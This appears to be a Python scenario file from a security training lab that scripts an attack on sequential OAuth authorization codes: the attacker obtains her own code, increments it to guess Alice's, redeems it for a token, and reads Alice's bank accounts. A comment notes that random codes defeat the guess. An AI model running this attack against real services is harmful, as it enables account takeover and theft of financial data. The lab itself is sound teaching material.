"""Mallory gets a code of her own, counts one up, and has Alice's."""

from labs.stage import Stage, Stuck, parameters_in
from labs.steps import step


@step("attacker")
def mallory_gets_a_code(stage: Stage) -> None:
    """Let Mallory sign in and allow, in Piggy's name; she keeps the code."""
    stage.mallory.go(stage.link("piggy", stage.callback("piggy"))).agree()
    # Her own code is honestly hers, and shows him what the others look like.
    stage.kept["code"] = parameters_in(stage.mallory.handed_over).get("code", "")


@step("Alice", by_hand="{piggy}/connect")
def alice_connects_piggy(stage: Stage) -> None:
    """Connect Piggy: sign in as alice, and allow. The phone is slow, and Piggy does not get the code yet."""
    stage.alice.go(stage.app_asks("piggy")).agree()


@step("attacker")
def redeems_the_next_one(stage: Stage) -> None:
    """Redeem the code that comes after Mallory's, in Piggy's name."""
    if not stage.kept.get("code"):
        raise Stuck("Mallory has no code to count from")
    form = {"client_id": "piggy", "redirect_uri": stage.callback("piggy")}
    stage.kept["token"] = stage.attacker.redeem(one_more(stage.kept["code"]), **form)


@step("attacker")
def reads_the_accounts(stage: Stage) -> None:
    """Ask the bank for Alice's accounts with what that bought."""
    stage.attacker.bank("GET", "/accounts", stage.kept.get("token", ""))


def one_more(code: str) -> str:
    """Count one up: a number as a number, and anything else at its last letter."""
    # Against random codes his guess is as good as any: one in 2^256.
    return str(int(code) + 1) if code.isdecimal() else code[:-1] + ("A" if code[-1] == "z" else chr(ord(code[-1]) + 1))
